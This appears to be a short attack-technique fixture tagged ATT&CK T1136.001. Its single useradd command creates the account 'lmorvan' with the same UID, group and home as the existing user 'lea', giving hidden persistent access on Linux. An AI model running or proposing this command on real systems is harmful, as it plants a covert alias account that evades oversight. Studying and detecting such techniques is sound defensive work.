# technique: T1136.001
# location: linux.account.passwd
# source: /etc/passwd
# name: lmorvan
useradd -o -u "$(id -u lea)" -g lea -d /home/lea -M -s /bin/sh lmorvan
